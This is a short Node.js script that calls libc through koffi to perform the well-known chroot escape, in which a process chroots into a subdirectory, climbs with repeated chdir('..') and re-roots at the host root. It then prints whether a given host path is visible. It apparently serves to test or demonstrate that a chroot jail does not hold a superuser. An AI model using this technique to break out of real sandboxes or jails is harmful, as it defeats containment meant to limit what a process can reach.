// The walk of break-it.sh. chroot(2), "the superuser can escape from a chroot jail".
const fs = require('node:fs');
const libc = require('koffi').load('libc.so.6');
const chroot = libc.func('int chroot(const char *)');
const chdir = libc.func('int chdir(const char *)');

if (process.env.JAIL) {
  chroot(process.env.JAIL);
  chdir('/');
}
console.log('before:', fs.readdirSync('/').join(' ') || '(an empty directory)');

fs.mkdirSync('/tmp/second-root', { recursive: true });
chroot('/tmp/second-root');
for (let step = 0; step < 64; step++) chdir('..');
chroot('.');

console.log('after: ', fs.readdirSync('/').join(' '));
const out = fs.existsSync(process.argv[2]);
console.log(out ? `BROKE OUT: ${process.argv[2]} of the host is there.` : 'HELD: the climb ended at the own root.');
process.exit(out ? 0 : 1);
